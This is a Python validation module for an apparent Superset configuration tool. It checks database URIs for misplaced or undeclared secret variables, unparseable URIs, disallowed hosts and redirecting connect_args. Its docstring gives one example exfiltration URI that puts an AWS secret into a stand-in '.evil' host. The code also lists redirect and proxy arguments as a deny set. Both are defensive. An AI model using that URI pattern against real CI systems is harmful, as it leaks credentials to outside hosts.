"""Database URIs: a secret only where a secret belongs, sent only to allowed hosts.

A pull request can change a database file before anyone reads it, and
``diff`` runs on it in CI with the CI's variables set. A ``${VAR}`` anywhere
in a URI would let it put any variable into the host (``trino://x@${AWS_SECRET_ACCESS_KEY}.evil``),
the user name or a query parameter, where no mask covers it and where
Superset sends it on connecting. So, for every environment and the URI each
database has in it (its override, else its base URI):

* S030: a ``${VAR}`` outside a secret slot (the user info's password, or the
  value of a password/token query parameter, ``superset_iac.secrets.SECRET_PARAMS``).
  The database (path) part may hold a variable the environment lists under
  ``path_variables`` (a DuckDB file): those are not secret and show as is.
* S031: a variable the environment does not declare (``secrets`` for a
  password slot, ``path_variables`` for the path).
* S032: a URI SQLAlchemy cannot parse (a port ``15x480``): Superset could not
  use it, and nothing about its parts can be trusted.
* S033: a host outside the environment's ``allowed_hosts``; and a URI that
  carries a secret in an environment without ``allowed_hosts``: a declared
  secret may only travel to a host the environment names.

Positions point at the variable inside the URI (file:line:col).
"""

from __future__ import annotations

from dataclasses import dataclass

from superset_iac.diagnostics import Diagnostics
from superset_iac.load.tree import AssetTree
from superset_iac.model.database import Database
from superset_iac.model.environment import Environment
from superset_iac.secrets import Slot, redact, uri_host, uri_passwords, uri_problem, uri_slots
from superset_iac.validate.codes import add


@dataclass(frozen=True)
class _Uri:
    db: Database
    path: tuple[str, ...]
    text: str


def check(tree: AssetTree, diags: Diagnostics) -> None:
    for db in tree.each(Database):
        unreadable = {uri.path for uri in _all(db) if _unreadable(uri, diags)}
        for uri in _all(db):
            if uri.path not in unreadable:
                _misplaced(uri, diags)
        for uri, envs in _uses(db, tree):
            if uri.path not in unreadable:
                _check(uri, envs, diags)


def _all(db: Database) -> list[_Uri]:
    return [_Uri(db, ("uri",), db.uri)] + [
        _Uri(db, ("environments", name, "uri"), o.uri)
        for name, o in db.environments.items() if o.uri is not None]


def _unreadable(uri: _Uri, diags: Diagnostics) -> bool:
    """S032 for a URI SQLAlchemy cannot parse, used or not (whatever reads it
    next, Superset included, could not either)."""
    problem = uri_problem(uri.text)
    if problem is None and uri_slots(uri.text) is not None:
        return False
    why = redact(problem, uri_passwords(uri.text)) if problem else "not scheme://..."
    add(diags, uri.db.pos(*uri.path), "S032",
        f"{uri.db.ref}: SQLAlchemy cannot read this URI ({why}); "
        "Superset could not use it either")
    return True


def _uses(db: Database, tree: AssetTree) -> list[tuple[_Uri, list[Environment]]]:
    """Each URI of ``db`` with the environments that use it. The base URI is
    used by every environment without an override. A tree that defines no
    environment (a fresh export) has nowhere to declare variables: its URIs
    are held to the slots only, and to the runner's environment."""
    base = _Uri(db, ("uri",), db.uri)
    uses: list[tuple[_Uri, list[Environment]]] = []
    without_override = [env for name, env in sorted(tree.environments.items())
                        if (o := db.environments.get(name)) is None or o.uri is None]
    if without_override or not tree.environments:
        uses.append((base, without_override))
    for name, override in db.environments.items():
        env = tree.environments.get(name)
        if override.uri is not None and env is not None:  # an unknown one is S019
            uses.append((_Uri(db, ("environments", name, "uri"), override.uri), [env]))
    return uses


def _check(uri: _Uri, envs: list[Environment], diags: Diagnostics) -> None:
    for slot in uri_slots(uri.text) or []:
        _slot(uri, slot, envs, diags)
    carries_secret = any(s.secret for s in uri_slots(uri.text) or [])
    _hosts(uri, carries_secret, envs, diags)
    if carries_secret:
        _redirects(uri, envs, diags)


def _misplaced(uri: _Uri, diags: Diagnostics) -> None:
    """S030, whichever environment uses the URI (or none does)."""
    for slot in uri_slots(uri.text) or []:
        if not slot.secret and slot.part != "database":
            add(diags, uri.db.text_pos(uri.path, 0, slot.offset), "S030",
                f"{uri.db.ref}: ${{{slot.variable}}} in the URI's {slot.part}: a variable may "
                "only be the password (user:${VAR}@host) or a password/token query parameter")


def _slot(uri: _Uri, slot: Slot, envs: list[Environment], diags: Diagnostics) -> None:
    """S031: the variable of a secret slot or the path must be declared."""
    pos = uri.db.text_pos(uri.path, 0, slot.offset)
    ref = uri.db.ref
    if slot.part == "database":
        missing = [e.name for e in envs if slot.variable not in e.path_variables]
        if missing:
            add(diags, pos, "S031",
                f"{ref}: ${{{slot.variable}}} in the database part of the URI is not among "
                f"the path_variables of {_names(missing)}; a variable there is shown in "
                "clear, so it is only for non-secret paths")
        return
    if not slot.secret:
        return  # S030 already
    missing = [e.name for e in envs if slot.variable not in e.secrets]
    if missing:
        add(diags, pos, "S031",
            f"{ref}: ${{{slot.variable}}} is not declared under secrets: in {_names(missing)}")


def _hosts(uri: _Uri, carries_secret: bool, envs: list[Environment],
           diags: Diagnostics) -> None:
    host = uri_host(uri.text)
    for env in envs:
        if env.allowed_hosts is None:
            if carries_secret:
                add(diags, uri.db.pos(*uri.path), "S033",
                    f"{uri.db.ref}: this URI carries a secret but environment '{env.name}' "
                    "sets no allowed_hosts: list the hosts its databases may connect to")
            continue
        if host is not None and not host_allowed(host, env.allowed_hosts):
            add(diags, uri.db.pos(*uri.path), "S033",
                f"{uri.db.ref}: host '{host}' is not in the allowed_hosts of environment "
                f"'{env.name}' ({', '.join(env.allowed_hosts) or 'none'})")


# Driver arguments that send the connection somewhere other than the URI's
# host (``extra.engine_params.connect_args``): with them the allow-list
# would check one host while the password went to another.
_REDIRECTS = frozenset({"host", "hostname", "server", "port", "url", "dsn", "endpoint",
                        "proxies", "http_proxy", "https_proxy", "proxy", "socks_proxy"})


def _redirects(uri: _Uri, envs: list[Environment], diags: Diagnostics) -> None:
    """S033 for connect_args that move a secret-carrying connection elsewhere
    (the database's own ``extra``, or an environment's override of it)."""
    sources = [(("extra",), uri.db.extra)] + [
        (("environments", e.name, "extra"), o.extra) for e in envs
        if (o := uri.db.environments.get(e.name)) is not None and o.extra]
    for where, extra in sources:
        args = _mapping(_mapping(extra.get("engine_params")).get("connect_args"))
        moved = sorted(k for k in args if isinstance(k, str) and k.lower() in _REDIRECTS)
        if moved:
            add(diags, uri.db.pos(*where), "S033",
                f"{uri.db.ref}: connect_args {', '.join(moved)} would send this URI's secret "
                "past its host and the allowed_hosts check; put the host in the URI")


def _mapping(value: object) -> dict:
    """``value`` if it is a mapping, else an empty one (hostile ``extra`` shapes)."""
    return value if isinstance(value, dict) else {}


def host_allowed(host: str, allowed: list[str]) -> bool:
    """``host`` equals an entry (any case), or ends in ``.x`` for an entry ``*.x``."""
    host = host.lower().rstrip(".")
    for entry in (a.lower().rstrip(".") for a in allowed):
        if host == entry or (entry.startswith("*.") and host.endswith(entry[1:])):
            return True
    return False


def _names(envs: list[str]) -> str:
    return ("environment " if len(envs) == 1 else "environments ") + ", ".join(
        f"'{e}'" for e in envs)
